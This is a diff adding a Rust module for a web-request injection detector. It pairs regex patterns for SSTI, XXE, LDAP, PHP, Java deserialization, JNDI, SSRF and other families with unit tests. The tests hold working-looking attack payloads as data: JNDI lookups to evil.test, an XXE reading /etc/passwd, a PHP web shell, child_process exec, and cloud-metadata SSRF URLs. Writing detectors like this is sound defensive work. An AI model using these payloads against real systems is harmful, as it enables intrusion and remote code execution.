@@ -1,0 +1,688 @@
+//! The injection families beyond SQL, XSS, traversal and shell commands:
+//! each a kind with a small set of patterns over the decoded, lower-cased
+//! value, and the places it applies to. Every pattern needs the family's
+//! syntax (a lookup, a template expression, an entity declaration, a
+//! wrapper URL, a gadget class), not a word alone. SSRF is judged by what
+//! a URL's host is, not by its spelling; JNDI lookups are resolved before
+//! matching (`${${lower:j}ndi:...}`).
+
+use std::{
+    net::{Ipv4Addr, Ipv6Addr},
+    sync::LazyLock,
+};
+
+use regex::{Regex, RegexSet};
+
+use super::super::fields::Place;
+use crate::finding::Kind;
+
+/// A family: its kind, its patterns (named) and where it looks.
+struct Family {
+    kind: Kind,
+    names: Vec<&'static str>,
+    set: RegexSet,
+    places: &'static [Place],
+}
+
+/// Everywhere a request carries text.
+const ANY: &[Place] = &[
+    Place::Path,
+    Place::Query,
+    Place::Body,
+    Place::Cookie,
+    Place::Header,
+];
+/// Values a client chooses (not the path, not headers).
+const VALUES: &[Place] = &[Place::Query, Place::Body, Place::Cookie];
+/// Where a single line is expected (a line break is never part of it).
+const LINES: &[Place] = &[Place::Path, Place::Query, Place::Cookie, Place::Header];
+
+/// PHP functions that execute, evaluate, read or write.
+const PHP_FUNCTIONS: &str = "(?:system|passthru|shell_exec|exec|popen|proc_open|pcntl_exec|phpinfo|base64_decode|gzinflate|gzuncompress|str_rot13|file_get_contents|file_put_contents|call_user_func(?:_array)?|create_function|preg_replace|show_source|highlight_file|fsockopen|assert|readfile|fpassthru|move_uploaded_file|unserialize|eval)";
+
+fn family(kind: Kind, places: &'static [Place], rules: &[(&'static str, &str)]) -> Family {
+    Family {
+        kind,
+        names: rules.iter().map(|(n, _)| *n).collect(),
+        set: RegexSet::new(rules.iter().map(|(_, r)| *r)).expect("patterns compile"),
+        places,
+    }
+}
+
+static FAMILIES: LazyLock<Vec<Family>> = LazyLock::new(|| {
+    vec![
+        family(
+            Kind::InjectionCrlf,
+            LINES,
+            &[
+                (
+                    "header after a line break",
+                    r"[\r\n]\s*[a-z0-9][a-z0-9_-]*\s*:",
+                ),
+                ("status line after a line break", r"[\r\n]\s*http/[0-9]"),
+                (
+                    "markup after a line break",
+                    r"[\r\n]\s*<(?:html|script|body)",
+                ),
+            ],
+        ),
+        family(
+            Kind::InjectionCrlf,
+            &[Place::Body],
+            &[(
+                "response header after a line break",
+                r"[\r\n]\s*(?:set-cookie|location|content-(?:type|length)|refresh|transfer-encoding|x-xss-protection)\s*:|[\r\n]\s*http/1\.[01]\s+[1-5][0-9][0-9]",
+            )],
+        ),
+        family(
+            Kind::InjectionMail,
+            VALUES,
+            &[
+                (
+                    "smtp command after a line break",
+                    r"[\r\n]\s*(?:mail\s+from|rcpt\s+to)\s*:|[\r\n]\s*(?:data|quit|rset|helo|ehlo)\s*(?:[\r\n]|$)",
+                ),
+                (
+                    "imap command after a line break",
+                    r"[\r\n]\s*[a-z0-9]{1,8}\s+(?:select|examine|fetch|login|logout|capability|list|lsub|store|copy|append|create|delete|rename|uid|search)\b",
+                ),
+            ],
+        ),
+        family(
+            Kind::InjectionSsti,
+            ANY,
+            &[
+                (
+                    "template arithmetic",
+                    r"(?:\{\{|\$\{|#\{|\*\{|@\()\s*[0-9]+\s*[*+/%-]\s*[0-9]+\s*(?:\}|\))",
+                ),
+                (
+                    "template object access",
+                    r"\{\{[^}]{0,200}(?:__class__|__mro__|__subclasses__|__globals__|__builtins__|__init__|\bconfig\b|\bself\b|\brequest\b|\blipsum\b|\bcycler\b|\bjoiner\b|\bnamespace\b|\|\s*attr\b|\[\s*['\x22]_)",
+                ),
+                (
+                    "template statement",
+                    r"\{%-?\s*(?:import|include|set|for|if|macro|debug|load|extends|block)\s",
+                ),
+                ("erb or jsp expression", r"<%[=#-]?\s*[^%]{1,200}%>"),
+                (
+                    "freemarker or velocity directive",
+                    r"<#(?:assign|import|include|list|if|attempt)\b|#set\s*\(\s*\$|\$class\.inspect|freemarker\.template\.utility",
+                ),
+                (
+                    "expression language object",
+                    r"\$\{[^}]{0,200}(?:getclass|forname|getruntime|processbuilder|pagecontext|applicationscope|sessionscope|facescontext|\bt\s*\()",
+                ),
+                ("thymeleaf preprocessing", r"__\$\{[^}]{1,200}\}__"),
+            ],
+        ),
+        family(
+            Kind::InjectionXxe,
+            &[Place::Body, Place::Query, Place::Cookie],
+            &[
+                (
+                    "external entity",
+                    r"<!entity\s+%?\s*[a-z0-9_.:-]+\s+(?:system|public)\b",
+                ),
+                ("parameter entity", r"<!entity\s+%"),
+                (
+                    "doctype with internal subset",
+                    r"<!doctype\s+[a-z0-9_:-]+\s*\[\s*<!",
+                ),
+                (
+                    "doctype with system id",
+                    r"<!doctype\s+[a-z0-9_:-]+\s+system\s",
+                ),
+                (
+                    "xinclude",
+                    r"<xi:include\b|xmlns:xi\s*=\s*['\x22]http://www\.w3\.org/2001/xinclude",
+                ),
+            ],
+        ),
+        family(
+            Kind::InjectionLdap,
+            VALUES,
+            &[
+                (
+                    "filter break",
+                    r"\*\s*\)\s*\(\s*[|&!]?\s*\(?\s*[a-z][a-z0-9-]*\s*[~<>]?=",
+                ),
+                (
+                    "filter injection",
+                    r"\)\s*\(\s*[|&!]\s*\(\s*[a-z][a-z0-9-]*\s*[~<>]?=",
+                ),
+                ("object class wildcard", r"\(\s*objectclass\s*=\s*\*\s*\)"),
+                (
+                    "attribute wildcard close",
+                    r"^\s*\*\s*\)\s*\(|\)\s*\(\s*[a-z][a-z0-9-]*\s*=\s*\*\s*\)?\s*$",
+                ),
+            ],
+        ),
+        family(
+            Kind::InjectionSsi,
+            ANY,
+            &[(
+                "ssi directive",
+                r"<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod|if|elif)\b",
+            )],
+        ),
+        family(
+            Kind::InjectionPhp,
+            VALUES,
+            &[
+                ("php open tag", r"<\?(?:php\b|=|\s)"),
+                (
+                    "dangerous function call",
+                    &format!(r"\b{PHP_FUNCTIONS}(?:\s*/\*.*?\*/\s*)*\("),
+                ),
+                (
+                    "indirect function call",
+                    &format!(
+                        r"\(\s*['\x22]?{PHP_FUNCTIONS}['\x22]?\s*\)\s*\(|['\x22]{PHP_FUNCTIONS}['\x22]\s*\(|\[\s*{PHP_FUNCTIONS}\s*\]\s*\[\s*0\s*\]"
+                    ),
+                ),
+                (
+                    "variable function call",
+                    r"\$[a-z_][a-z0-9_]*\(|\(\s*\$[a-z_][a-z0-9_]*\s*\)\s*\(",
+                ),
+                (
+                    "string-built function name",
+                    r"['\x22][a-z_]+['\x22]\s*\.\s*['\x22][a-z_]+['\x22]\s*;",
+                ),
+                (
+                    "superglobal",
+                    r"\$_(?:get|post|request|cookie|server|files|env|session)\b",
+                ),
+                (
+                    "stream wrapper",
+                    r"\b(?:php|phar|zip|expect|glob|compress\.zlib|compress\.bzip2|ogg|rar|ssh2\.[a-z]+)://",
+                ),
+                (
+                    "php.ini directive",
+                    r"\b(?:allow_url_include|allow_url_fopen|auto_prepend_file|auto_append_file|disable_functions|open_basedir|safe_mode|extension_dir|include_path|opcache\.[a-z_]+|session\.save_path|error_log)\s*=",
+                ),
+                (
+                    "serialized object",
+                    r#"\b[oc]:\d+:"[a-z0-9_\\]+":\d+:\{|\ba:\d+:\{[sid]:\d"#,
+                ),
+            ],
+        ),
+        family(
+            Kind::InjectionJava,
+            ANY,
+            &[
+                (
+                    "java rce class",
+                    r"\bjava\.lang\.(?:runtime|processbuilder|process|class|classloader|reflect|system|thread|invoke)\b|\bjavax\.(?:script|naming|management)\b|\bcom\.sun\.(?:org\.apache|rowset|jndi|script|management)\b|\bsun\.(?:misc|reflect|rmi)\.",
+                ),
+                (
+                    "library gadget package",
+                    r"\borg\.apache\.commons\.(?:collections|beanutils)|\borg\.codehaus\.groovy\.runtime|\bcom\.opensymphony\.xwork2|\bognl\.ognl|\bbsh\.interpreter|\borg\.mozilla\.javascript|\bcom\.mchange\.v2\.c3p0|\borg\.springframework\.(?:beans\.factory|context\.support)|\bjavassist\.",
+                ),
+                (
+                    "deserialization gadget",
+                    r"(?:invoker|instantiate|chained|constant|map|clone|factory|closure|predicate|switch)transformer|instantiatefactory|prototype(?:serialization|clone)factory|\b(?:for|while)closure\b|\blazymap\b|\btransformedmap\b|templatesimpl|annotationinvocationhandler|badattributevalueexpexception|jdbcrowsetimpl|\bbeancomparator\b|\bprocessbuilder\b|\bgetruntime\s*\(",
+                ),
+                (
+                    "ognl or el expression",
+                    r"#_memberaccess|@java\.lang\.|#context\s*\[|\bnew\s+java\.|\.getruntime\s*\(\s*\)\s*\.exec|\.getclass\s*\(\s*\)\s*\.forname",
+                ),
+                (
+                    "spring class loader",
+                    r"\bclass\.(?:module\.)?classloader\b",
+                ),
+                (
+                    "serialized java object",
+                    r"\baced0005|\bro0ab|\bh4siaaaaaaaa",
+                ),
+            ],
+        ),
+        family(
+            Kind::InjectionCode,
+            ANY,
+            &[
+                (
+                    "node child process",
+                    r"\brequire\s*\(\s*['\x22`]child_process|\bchild_process\b\s*['\x22`)]?\s*\)?\s*\.\s*(?:exec|spawn|fork)|process\.mainmodule|\bglobal\.process\b|process\.binding\s*\(|\b(?:exec|spawn)sync\s*\(",
+                ),
+                ("perl code block", r"@\{\s*\["),
+                (
+                    "python import",
+                    r"__import__\s*\(|\bos\.(?:system|popen|exec[lv]p?e?)\s*\(|\bsubprocess\.(?:call|popen|run|check_output)\s*\(",
+                ),
+                (
+                    "ruby execution",
+                    r"%x\s*[({\[]|\bkernel\.(?:exec|system|spawn)\b|\bio\.popen\s*\(",
+                ),
+            ],
+        ),
+        family(
+            Kind::InjectionPrototypePollution,
+            VALUES,
+            &[(
+                "prototype key",
+                r"__proto__|\bconstructor\s*(?:\.|\[\s*['\x22]?)\s*prototype\b",
+            )],
+        ),
+        family(
+            Kind::SessionFixation,
+            &[Place::Query, Place::Body],
+            &[
+                (
+                    "cookie set from a value",
+                    r"\.cookie\s*=|\bset-cookie\s*:|http-equiv\s*=\s*['\x22]?set-cookie",
+                ),
+                (
+                    "cookie attributes in a value",
+                    r"\.cookie\s*;\s*expires\s*=",
+                ),
+            ],
+        ),
+    ]
+});
+
+/// Session identifier parameter names (a parameter named so, in the URL).
+static SESSION_NAMES: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"^(?:phpsessid|jsessionid|aspsessionid[a-z]*|asp\.net_sessionid|sessionid|session_id|session-id|sessid|sid|cfid|cftoken|ci_session|laravel_session|connect\.sid|sails\.sid|rack\.session|_session_id|express\.sid|koa\.sid|meteor_login_token|shiny-token|phpsession|zend_session|symfony|nette-session|play_session|cakephp|fe_typo_user|wordpress_logged_in[a-z0-9_]*)$",
+    )
+    .expect("pattern compiles")
+});
+
+/// Every `(kind, shape)` family the value at `place` matches.
+pub fn detect(place: Place, lower: &str) -> Vec<(Kind, &'static str)> {
+    let mut out: Vec<(Kind, &'static str)> = Vec::new();
+    for f in FAMILIES.iter().filter(|f| f.places.contains(&place)) {
+        if out.iter().any(|(k, _)| *k == f.kind) {
+            continue;
+        }
+        if let Some(i) = f.set.matches(lower).iter().next() {
+            out.push((f.kind, f.names[i]));
+        }
+    }
+    if lower.contains("${") && jndi(lower) {
+        out.push((Kind::InjectionJndi, "jndi lookup"));
+    }
+    if matches!(place, Place::Query | Place::Body | Place::Cookie)
+        && let Some(shape) = url_threat(lower)
+    {
+        out.push(shape);
+    }
+    if place == Place::Query && SESSION_NAMES.is_match(lower) {
+        out.push((Kind::SessionFixation, "session parameter in the url"));
+    }
+    if place == Place::Path
+        && let Some(shape) = leftover(lower)
+    {
+        out.push((Kind::ProbeLeftoverFile, shape));
+    }
+    out
+}
+
+/// Log4j lookups resolved: `${lower:x}`, `${upper:x}` and any `${...:-x}`
+/// default become `x` until nothing changes; then a `${jndi:` is the
+/// attack, however it was spelled.
+fn jndi(lower: &str) -> bool {
+    static LOOKUP: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"\$\{(?:lower|upper):([^${}]*)\}|\$\{[^${}]*?:-([^${}]*)\}")
+            .expect("pattern compiles")
+    });
+    let mut s = lower.replace(char::is_whitespace, "");
+    for _ in 0..16 {
+        if s.contains("${jndi:") {
+            return true;
+        }
+        let next = LOOKUP.replace_all(&s, |c: &regex::Captures<'_>| {
+            c.get(1)
+                .or_else(|| c.get(2))
+                .map_or(String::new(), |m| m.as_str().to_string())
+        });
+        if next == s {
+            break;
+        }
+        s = next.into_owned();
+    }
+    s.contains("${jndi:")
+}
+
+/// A URL-valued parameter: SSRF when its host is internal (however the
+/// address is written) or its scheme reaches local services; RFI when it
+/// names something to include (an IP host, a trailing `?`, a wrapper).
+fn url_threat(lower: &str) -> Option<(Kind, &'static str)> {
+    let v = lower.trim();
+    let (scheme, rest) = v.split_once("://")?;
+    if scheme.is_empty()
+        || scheme.len() > 16
+        || !scheme
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'.' | b'-' | b'_'))
+    {
+        return None;
+    }
+    if matches!(
+        scheme,
+        "gopher" | "dict" | "file" | "ldap" | "ldaps" | "tftp" | "netdoc" | "jar" | "local_file"
+    ) {
+        return Some((Kind::InjectionSsrf, "local-service scheme"));
+    }
+    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
+    let host_port = authority.rsplit('@').next().unwrap_or("");
+    let host = if let Some(inner) = host_port.strip_prefix('[') {
+        inner.split(']').next().unwrap_or("")
+    } else {
+        host_port.split(':').next().unwrap_or("")
+    };
+    if internal_host(host) {
+        return Some((Kind::InjectionSsrf, "internal address"));
+    }
+    if matches!(scheme, "http" | "https" | "ftp" | "ftps") {
+        if host.parse::<Ipv4Addr>().is_ok() || host.parse::<Ipv6Addr>().is_ok() {
+            return Some((Kind::InjectionRfi, "url with an ip address"));
+        }
+        if v.ends_with('?') || v.contains('\0') {
+            return Some((Kind::InjectionRfi, "url ending in ?"));
+        }
+    }
+    None
+}
+
+/// Loopback, private, link-local, unspecified, shared or metadata hosts,
+/// including IPv4 in decimal, octal or hex and IPv4-mapped IPv6.
+fn internal_host(host: &str) -> bool {
+    let host = host.trim_end_matches('.');
+    if host.is_empty() {
+        return false;
+    }
+    if host == "localhost"
+        || host.ends_with(".localhost")
+        || host.ends_with(".internal")
+        || matches!(host, "metadata" | "instance-data" | "localtest.me")
+    {
+        return true;
+    }
+    if let Some(v4) = loose_ipv4(host) {
+        return internal_v4(v4);
+    }
+    if let Ok(v6) = host.parse::<Ipv6Addr>() {
+        if let Some(v4) = v6.to_ipv4_mapped() {
+            return internal_v4(v4);
+        }
+        let first = v6.segments()[0];
+        return v6.is_loopback()
+            || v6.is_unspecified()
+            || (first & 0xfe00) == 0xfc00
+            || (first & 0xffc0) == 0xfe80;
+    }
+    // Wildcard DNS that resolves to an address written in the name.
+    host.split(['.', '-'])
+        .collect::<Vec<_>>()
+        .windows(4)
+        .filter_map(|w| format!("{}.{}.{}.{}", w[0], w[1], w[2], w[3]).parse().ok())
+        .any(internal_v4)
+}
+
+fn internal_v4(a: Ipv4Addr) -> bool {
+    let o = a.octets();
+    a.is_loopback()
+        || a.is_private()
+        || a.is_link_local()
+        || a.is_unspecified()
+        || a.is_broadcast()
+        || (o[0] == 100 && (o[1] & 0xc0) == 64)
+        || o[0] == 0
+}
+
+/// IPv4 as inet_aton reads it: 1 to 4 parts, each decimal, octal (`0`)
+/// or hex (`0x`), the last filling the remaining bytes.
+fn loose_ipv4(host: &str) -> Option<Ipv4Addr> {
+    let parts: Vec<&str> = host.split('.').collect();
+    if parts.is_empty() || parts.len() > 4 {
+        return None;
+    }
+    let mut nums = Vec::with_capacity(4);
+    for p in &parts {
+        let n = if let Some(h) = p.strip_prefix("0x") {
+            u64::from_str_radix(h, 16).ok()?
+        } else if p.len() > 1 && p.starts_with('0') {
+            u64::from_str_radix(&p[1..], 8).ok()?
+        } else {
+            p.parse::<u64>().ok()?
+        };
+        nums.push(n);
+    }
+    let (last, head) = nums.split_last()?;
+    if head.iter().any(|n| *n > 255) {
+        return None;
+    }
+    let room = 8 * (4 - head.len() as u32);
+    if *last >= 1u64 << room {
+        return None;
+    }
+    let mut v: u64 = 0;
+    for (i, n) in head.iter().enumerate() {
+        v |= n << (24 - 8 * i as u32);
+    }
+    Some(Ipv4Addr::from((v | last) as u32))
+}
+
+/// Backup, editor and leftover files, and hidden files or directories
+/// (`/.git/`, `/.env`; `/.well-known/` is the one that is meant to be
+/// served).
+fn leftover(path: &str) -> Option<&'static str> {
+    static BACKUP: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?:\.(?:bak|backup|bkp|old|orig|save|sav|swp|swo|tmp|un~|copy)|~|\.[a-z0-9]{1,5}\.(?:bak|old|orig|save|txt|[0-9]))$")
+            .expect("pattern compiles")
+    });
+    let hidden = path
+        .split(['/', '\\'])
+        .any(|seg| seg.len() > 1 && seg.starts_with('.') && seg != ".." && seg != ".well-known");
+    if hidden {
+        return Some("hidden file or directory");
+    }
+    let last = path.rsplit('/').next().unwrap_or("");
+    (last.contains('.') || last.ends_with('~'))
+        .then(|| BACKUP.is_match(last))
+        .filter(|m| *m)
+        .map(|_| "backup file")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn kinds(place: Place, v: &str) -> Vec<&'static str> {
+        detect(place, &v.to_ascii_lowercase())
+            .into_iter()
+            .map(|(k, _)| k.name())
+            .collect()
+    }
+
+    #[test]
+    fn attacks_of_each_family() {
+        use Place::*;
+        for (place, v, k) in [
+            (Query, "x\r\nSet-Cookie: a=b", "injection_crlf"),
+            (Header, "foo\r\nX-Injected: 1", "injection_crlf"),
+            (Query, "a\r\nHTTP/1.1 200 OK", "injection_crlf"),
+            (Header, "${jndi:ldap://evil.test/a}", "injection_jndi"),
+            (
+                Query,
+                "${${lower:j}${upper:n}di:ldap://x/a}",
+                "injection_jndi",
+            ),
+            (
+                Body,
+                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}",
+                "injection_jndi",
+            ),
+            (
+                Header,
+                "${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}",
+                "injection_jndi",
+            ),
+            (Query, "{{7*7}}", "injection_ssti"),
+            (
+                Body,
+                "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+                "injection_ssti",
+            ),
+            (Query, "<%= 7 * 7 %>", "injection_ssti"),
+            (Query, "${7*7}", "injection_ssti"),
+            (Query, "#{7*7}", "injection_ssti"),
+            (
+                Body,
+                "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
+                "injection_ssti",
+            ),
+            (
+                Body,
+                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+                "injection_xxe",
+            ),
+            (
+                Body,
+                "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://x/e.dtd\"> %p;]>",
+                "injection_xxe",
+            ),
+            (
+                Query,
+                "http://169.254.169.254/latest/meta-data/",
+                "injection_ssrf",
+            ),
+            (Query, "http://2130706433/", "injection_ssrf"),
+            (Query, "http://0x7f.1/", "injection_ssrf"),
+            (Query, "http://0177.0.0.1/", "injection_ssrf"),
+            (Query, "http://[::ffff:127.0.0.1]/", "injection_ssrf"),
+            (Query, "http://user@10.0.0.5:8080/admin", "injection_ssrf"),
+            (
+                Query,
+                "http://metadata.google.internal/computeMetadata/v1/",
+                "injection_ssrf",
+            ),
+            (Query, "gopher://x:6379/_SET", "injection_ssrf"),
+            (Query, "http://127.0.0.1.nip.io/", "injection_ssrf"),
+            (Query, "*)(uid=*))(|(uid=*", "injection_ldap"),
+            (Body, "admin)(&(objectClass=*)", "injection_ldap"),
+            (Query, "<!--#exec cmd=\"ls\" -->", "injection_ssi"),
+            (
+                Query,
+                "me@x.test\r\nRCPT TO: victim@y.test",
+                "injection_mail",
+            ),
+            (Query, "INBOX\r\nA1 FETCH 1:* (BODY[])", "injection_mail"),
+            (Query, "http://203.0.113.9/shell.txt?", "injection_rfi"),
+            (Query, "http://evil.test/shell.txt?", "injection_rfi"),
+            (Query, "<?php system($_GET['c']); ?>", "injection_php"),
+            (Query, "(system)('uname')", "injection_php"),
+            (
+                Query,
+                "php://filter/convert.base64-encode/resource=index.php",
+                "injection_php",
+            ),
+            (Body, "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "injection_php"),
+            (Body, "allow_url_include=1", "injection_php"),
+            (Body, "java.lang.Runtime", "injection_java"),
+            (
+                Query,
+                "%{#_memberAccess[\"allowStaticMethodAccess\"]=true}",
+                "injection_java",
+            ),
+            (
+                Body,
+                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+                "injection_java",
+            ),
+            (
+                Body,
+                "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
+                "injection_java",
+            ),
+            (
+                Body,
+                "org.apache.commons.collections.functors.InvokerTransformer",
+                "injection_java",
+            ),
+            (
+                Query,
+                "require('child_process').exec('id')",
+                "injection_code",
+            ),
+            (Query, "@{[system 'id']}", "injection_code"),
+            (Body, "__import__('os').system('id')", "injection_code"),
+            (Query, "__proto__[admin]", "injection_prototype_pollution"),
+            (
+                Query,
+                "constructor[prototype][isAdmin]",
+                "injection_prototype_pollution",
+            ),
+            (Query, "phpsessid", "session_fixation"),
+            (
+                Query,
+                "<script>document.cookie=\"sid=1\"</script>",
+                "session_fixation",
+            ),
+            (Path, "/.git/config", "probe_leftover_file"),
+            (Path, "/.env", "probe_leftover_file"),
+            (Path, "/index.php.bak", "probe_leftover_file"),
+            (Path, "/config.php~", "probe_leftover_file"),
+            (Path, "/backup/site.old", "probe_leftover_file"),
+        ] {
+            assert!(
+                kinds(place, v).contains(&k),
+                "{v} ({place:?}): {:?}",
+                kinds(place, v)
+            );
+        }
+    }
+
+    #[test]
+    fn benign_look_alikes() {
+        use Place::*;
+        for (place, v) in [
+            (Query, "https://partner.example.com/callback?state=1"),
+            (Query, "https://8.8.8.8.example.org/"),
+            (Body, "Hello,\nName: Bob\nThanks"),
+            (Query, "{{username}}"),
+            (Query, "price is $5 (about 7*7 cents)"),
+            (Body, "see the java.util.List docs"),
+            (Query, "50% off (limited)"),
+            (Body, "I'm going to the system meeting (at 5)"),
+            (Query, "email me at a@b.test"),
+            (Path, "/.well-known/openid-configuration"),
+            (Path, "/static/app.min.js"),
+            (Path, "/docs/v1.2/intro"),
+            (Query, "*bold* (text) = fine"),
+            (Body, "<?xml version=\"1.0\"?><order id=\"5\"/>"),
+            (
+                Header,
+                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+            ),
+            (Header, "https://www.example.com/search?q=tea"),
+            (Query, "session"),
+            (Body, "the constructor of a prototype-based language"),
+        ] {
+            assert!(
+                kinds(place, v).is_empty(),
+                "{v} ({place:?}): {:?}",
+                kinds(place, v)
+            );
+        }
+    }
+
+    #[test]
+    fn ipv4_is_read_the_way_inet_aton_reads_it() {
+        for (s, want) in [
+            ("2130706433", "127.0.0.1"),
+            ("0x7f000001", "127.0.0.1"),
+            ("017700000001", "127.0.0.1"),
+            ("127.1", "127.0.0.1"),
+            ("10.0.513", "10.0.2.1"),
+            ("169.254.43518", "169.254.169.254"),
+        ] {
+            assert_eq!(loose_ipv4(s), Some(want.parse().unwrap()), "{s}");
+        }
+        for s in ["", "1.2.3.4.5", "256.1.1.1", "1.2.3.256", "example", "0x"] {
+            assert_eq!(loose_ipv4(s), None, "{s}");
+        }
+    }
+}
